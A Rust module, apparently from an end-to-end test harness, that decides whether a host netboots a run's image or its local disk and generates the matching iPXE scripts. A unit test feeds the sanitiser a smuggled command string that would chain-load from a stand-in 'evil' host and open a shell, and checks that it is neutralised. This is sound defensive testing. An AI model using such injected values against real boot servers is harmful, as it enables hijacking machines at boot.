//! What `/boot/<mac>.ipxe` answers: the netboot script of the run that owns
//! the host's boot path, or the local disk; and the iPXE text of each.
use e2et_model::{RunMode, RunState};

/// The run that holds a host (the store's `host_blocker`), as the boot
/// decision needs it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Holder<'a> {
    pub id: &'a str,
    pub mode: RunMode,
    pub state: RunState,
}

/// What a MAC's boot script is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BootScript {
    /// The run's netboot image, with a run token on the kernel command line.
    Netboot { run: String, state: RunState },
    /// The host's own disk: no run owns the boot path now, the run boots the
    /// installed system (quick), or the MAC is not in the inventory.
    LocalDisk { run: Option<String>, why: String },
}

impl BootScript {
    /// What the boot-request log records for this answer.
    pub fn log_note(&self) -> String {
        match self {
            BootScript::Netboot { state, .. } => format!("netboot ({state})"),
            BootScript::LocalDisk { run: None, why } if why == UNKNOWN_MAC => {
                "unknown-mac: local disk".into()
            }
            BootScript::LocalDisk { why, .. } => format!("local disk: {why}"),
        }
    }

    pub fn run(&self) -> Option<&str> {
        match self {
            BootScript::Netboot { run, .. } => Some(run),
            BootScript::LocalDisk { run, .. } => run.as_deref(),
        }
    }
}

const UNKNOWN_MAC: &str = "MAC not in the inventory";

/// The decision. `known`: the MAC is an inventory host's; `holder`: the run
/// that holds that host, if any. Only a cold run in a state that owns the
/// boot path netboots; a quick run boots the installed system, never the
/// netboot image.
pub fn decide(known: bool, holder: Option<Holder<'_>>) -> BootScript {
    if !known {
        return BootScript::LocalDisk {
            run: None,
            why: UNKNOWN_MAC.into(),
        };
    }
    match holder {
        Some(r) if r.mode == RunMode::Cold && r.state.boots_netboot() => BootScript::Netboot {
            run: r.id.to_string(),
            state: r.state,
        },
        Some(r) if r.mode == RunMode::Quick => BootScript::LocalDisk {
            run: Some(r.id.to_string()),
            why: format!("quick run {} boots the installed system", r.id),
        },
        Some(r) => BootScript::LocalDisk {
            run: Some(r.id.to_string()),
            why: format!("run {} is in {}, not booting", r.id, r.state),
        },
        None => BootScript::LocalDisk {
            run: None,
            why: "no active run".into(),
        },
    }
}

/// Where the netboot image is and how it boots.
#[derive(Debug, Clone)]
pub struct Netboot<'a> {
    /// The coordinator's URL as hosts see it.
    pub public_url: &'a str,
    /// Paths under `<public_url>/boot/`: `artifacts/<file>` (the default
    /// image) or `images/<name>/kernel` (a role's).
    pub kernel: &'a str,
    pub initrd: &'a str,
    /// The image's own kernel command line.
    pub cmdline: &'a str,
}

/// `start.ipxe`: chains to the MAC's own script.
pub fn start_script(public_url: &str) -> String {
    format!("#!ipxe\nchain {public_url}/boot/${{net0/mac}}.ipxe\n")
}

/// The netboot script of `run` for `host`, carrying its token.
pub fn netboot_script(n: &Netboot<'_>, run: &str, host: &str, token: &str) -> String {
    let u = n.public_url;
    format!(
        "#!ipxe\necho e2et: run {run} host {host}: netboot\nkernel {u}/boot/{k} initrd=initrd {c} e2et.coordinator={u} e2et.run={run} e2et.token={token}\ninitrd --name initrd {u}/boot/{i}\nboot\n",
        k = n.kernel,
        i = n.initrd,
        c = n.cmdline,
    )
}

/// The script that hands the boot to the local disk, saying why.
pub fn local_disk_script(mac: &str, why: &str) -> String {
    format!(
        "#!ipxe\necho e2et: {} for {}: booting the local disk\nsanboot --no-describe --drive 0x80 || exit 1\n",
        ipxe_text(why),
        ipxe_text(mac)
    )
}

/// Text safe on an iPXE `echo` line: iPXE splits a line into commands at
/// `;`, `&&` and `||` tokens, starts a comment at a `#` token and expands
/// `${...}`, and a reason can carry what an agent sent (a boot id). Only
/// letters, digits, space and `.,:/()[]_'-` pass; anything else becomes
/// `_`.
fn ipxe_text(s: &str) -> String {
    s.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || " .,:/()[]_'-".contains(c) {
                c
            } else {
                '_'
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn holder(mode: RunMode, state: RunState) -> Holder<'static> {
        Holder {
            id: "r1",
            mode,
            state,
        }
    }

    #[test]
    fn an_unknown_mac_boots_its_disk_and_is_logged_as_unknown() {
        let d = decide(false, Some(holder(RunMode::Cold, RunState::PowerOn)));
        assert_eq!(
            d,
            BootScript::LocalDisk {
                run: None,
                why: "MAC not in the inventory".into()
            }
        );
        assert_eq!(d.log_note(), "unknown-mac: local disk");
    }

    #[test]
    fn a_known_mac_without_a_run_boots_its_disk() {
        let d = decide(true, None);
        assert_eq!(d.run(), None);
        assert_eq!(d.log_note(), "local disk: no active run");
    }

    #[test]
    fn a_cold_run_netboots_exactly_in_the_states_that_own_the_boot_path() {
        for s in RunState::ALL {
            let d = decide(true, Some(holder(RunMode::Cold, s)));
            if s.boots_netboot() {
                assert_eq!(
                    d,
                    BootScript::Netboot {
                        run: "r1".into(),
                        state: s
                    },
                    "{s}"
                );
                assert_eq!(d.log_note(), format!("netboot ({s})"));
            } else {
                assert_eq!(
                    d,
                    BootScript::LocalDisk {
                        run: Some("r1".into()),
                        why: format!("run r1 is in {s}, not booting")
                    },
                    "{s}"
                );
            }
        }
    }

    #[test]
    fn a_quick_run_never_netboots() {
        for s in RunState::ALL {
            let d = decide(true, Some(holder(RunMode::Quick, s)));
            assert_eq!(
                d,
                BootScript::LocalDisk {
                    run: Some("r1".into()),
                    why: "quick run r1 boots the installed system".into()
                },
                "{s}"
            );
        }
    }

    #[test]
    fn the_scripts_carry_what_ipxe_needs() {
        let n = Netboot {
            public_url: "http://10.99.0.1:8080",
            kernel: "artifacts/bzImage",
            initrd: "artifacts/initrd",
            cmdline: "console=ttyS0,115200",
        };
        let s = netboot_script(&n, "r1", "vm1", "t0k");
        assert!(s.starts_with("#!ipxe\n"));
        assert!(s.contains("kernel http://10.99.0.1:8080/boot/artifacts/bzImage initrd=initrd console=ttyS0,115200 e2et.coordinator=http://10.99.0.1:8080 e2et.run=r1 e2et.token=t0k\n"));
        assert!(s.contains("initrd --name initrd http://10.99.0.1:8080/boot/artifacts/initrd\n"));
        assert!(s.ends_with("boot\n"));
        assert_eq!(
            start_script("http://c"),
            "#!ipxe\nchain http://c/boot/${net0/mac}.ipxe\n"
        );
        // What an agent sent cannot add an iPXE command to the line.
        let evil = local_disk_script(
            "52:54:00:00:00:01",
            "conflicting agents: boot x ; chain http://evil/${net0/mac} || shell #",
        );
        let echo = evil.lines().nth(1).unwrap();
        assert!(
            echo.starts_with(
                "echo e2et: conflicting agents: boot x _ chain http://evil/__net0/mac_ __ shell _"
            ),
            "{echo}"
        );
        assert_eq!(evil.lines().count(), 3, "{evil}");
        let l = local_disk_script("52:54:00:00:00:01", "no active run");
        assert!(l.contains("sanboot --no-describe --drive 0x80"));
        assert!(l.contains("no active run for 52:54:00:00:00:01"));
    }
}
